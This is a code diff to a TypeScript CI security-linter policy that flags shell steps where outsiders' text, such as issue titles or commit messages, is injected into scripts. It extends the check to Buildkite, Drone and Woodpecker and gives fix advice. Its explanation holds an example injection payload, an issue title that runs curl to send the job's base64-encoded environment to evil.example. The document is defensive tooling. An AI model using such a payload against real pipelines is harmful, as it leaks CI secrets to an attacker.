@@ -6,10 +6,14 @@ import {
   type Injection as AzureInjection,
   injectionsIn as azureInjections,
 } from "../../platforms/azure-pipelines/injections.ts";
+import { injectionsIn as uploadedWith } from "../../platforms/buildkite/injections.ts";
 import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
 import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
 import { cloudBuildInjections } from "../../platforms/cloud-build/injections.ts";
 import { codebuildInjections } from "../../platforms/codebuild/injections.ts";
+import { injectionsIn as substitutedWith } from "../../platforms/container-steps/injections.ts";
+import { DRONE } from "../../platforms/drone/dialect.ts";
+import type { ChosenText } from "../../platforms/flow/chosen-text.ts";
 import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
 import type { GithubActionsModel, Step } from "../../platforms/github-actions/model.ts";
 import { opennessOf } from "../../platforms/github-actions/openness.ts";
@@ -20,6 +24,7 @@ import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token
 import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
 import { evaluatedTexts } from "../../platforms/script/evaluated-texts.ts";
 import { type TektonInjection, tektonInjections } from "../../platforms/tekton/injections.ts";
+import { WOODPECKER } from "../../platforms/woodpecker/dialect.ts";
 import { definePolicy } from "../define-policy.ts";
 import { onePerPlace } from "../one-per-place.ts";
 import { isJobToken, namesSecret, secretName } from "../secret-like.ts";
@@ -29,8 +34,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -41,6 +46,7 @@ export const secretInInjectableStep = definePolicy({
       "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
       "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
       "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
+      "https://buildkite.com/docs/agent/v3/cli/reference/pipeline#environment-variable-substitution",
     ],
     practices: ["P5"],
     cwe: [94, 78],
@@ -49,13 +55,16 @@ export const secretInInjectableStep = definePolicy({
     "appveyor",
     "azure-pipelines",
     "bitbucket-pipelines",
+    "buildkite",
     "circleci",
     "cloud-build",
     "codebuild",
+    "drone",
     "github-actions",
     "gitlab-ci",
     "tekton",
     "travis",
+    "woodpecker",
   ],
   examples: {
     flag: [
@@ -357,6 +366,9 @@ export const secretInInjectableStep = definePolicy({
     ],
   },
   check({ model, flows }) {
+    if (model.kind === "buildkite") return onePerPlace(uploadedWith(model, flows).map(matchOfChosen));
+    if (model.kind === "drone") return onePerPlace(substitutedWith(DRONE, model, flows).map(matchOfChosen));
+    if (model.kind === "woodpecker") return onePerPlace(substitutedWith(WOODPECKER, model, flows).map(matchOfChosen));
     if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
     if (model.kind === "bitbucket") return onePerPlace(chosenInProject(flows, BITBUCKET_TEXTS));
     if (model.kind === "appveyor") return onePerPlace(chosenInProject(flows, APPVEYOR_TEXTS));
@@ -401,18 +413,20 @@ const chosenInProject = ({ scripts }: PipelineFlows, chosen: RegExp): PolicyMatc
     matchOfFilledIn({ ...one, path: `$${one.name}`, author: one.name.includes("MESSAGE") ? "merged" : "project" }),
   );
 
-/** On CircleCI forks are built only if the project lets them, so that no stranger does it just like that. */
+/** Forks are built, or get at secrets, only if the project lets them, so that no stranger does it just like that. */
 const GRADES: Readonly<Record<Chooser, readonly [beside: Severity, alone: Severity]>> = {
   outsider: ["high", "medium"],
   merged: ["high", "medium"],
   project: ["medium", "low"],
 };
 
-function matchOfFilledIn({ place, path, author, by, script }: FilledIn): PolicyMatch {
+const matchOfFilledIn = ({ path, ...text }: FilledIn): PolicyMatch => matchOfChosen({ name: path, ...text });
+
+function matchOfChosen({ place, name, author, by, script }: ChosenText): PolicyMatch {
   const secret = script.secrets.find((one) => !isJobToken(one));
   const [beside, alone] = GRADES[author];
   const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
-  const message = `The text of ${path} ${how}, and ${CHOOSERS[author]} chooses it.`;
+  const message = `The text of ${name} ${how}, and ${CHOOSERS[author]} chooses it.`;
   return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
 }
 
